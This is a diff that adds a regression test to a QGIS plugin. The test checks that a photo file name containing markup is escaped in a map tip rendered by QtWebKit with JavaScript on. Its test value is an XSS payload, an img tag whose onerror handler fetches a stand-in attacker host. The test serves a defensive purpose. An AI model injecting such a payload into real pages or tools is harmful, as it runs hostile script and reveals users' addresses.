@@ -1018,3 +1018,26 @@ def test_file_dialogs_never_open_in_the_hidden_runs_folder(plugin, tmp_path):
     assert dialog_folder(str(inside)) != str(runs_folder()) and Path(dialog_folder(str(inside))).is_dir()
     (tmp_path / "case").mkdir()
     assert dialog_folder(str(tmp_path / "case" / "run.gpkg")) == str(tmp_path / "case")  # beside a run of the user's
+
+
+def test_a_photo_named_like_markup_stays_text_in_the_map_tip(plugin):
+    """QGIS 3.22 renders map tips in QtWebKit with JavaScript on: a photo's name must not become a tag
+    (an <img onerror=…> that runs, or a remote image that reveals the analyst's address)."""
+    from qgis.core import QgsExpression, QgsExpressionContext, QgsFeature, QgsField, QgsFields
+    from qgis.PyQt.QtCore import QVariant
+
+    from geoclip_qgis.layers import MAP_TIP
+
+    fields = QgsFields()
+    for name, kind in (("photo", QVariant.String), ("rank", QVariant.Int), ("probability", QVariant.Double)):
+        fields.append(QgsField(name, kind))
+    fields.append(QgsField("error_km", QVariant.Double))
+    feature = QgsFeature(fields)
+    feature["photo"] = "/case/<img src=x onerror=fetch('//attacker.example')>\"'.png"
+    feature["rank"], feature["probability"] = 1, 0.5
+    context = QgsExpressionContext()
+    context.setFields(fields)
+    context.setFeature(feature)
+    tip = QgsExpression.replaceExpressionText(MAP_TIP, context)
+    assert tip.count("<img") == 1 and "onerror" not in tip.split("<img")[1].split('"')[2]  # only our own tag
+    assert "&lt;img src=x onerror=fetch(&#39;//attacker.example&#39;)&gt;&quot;&#39;.png" in tip
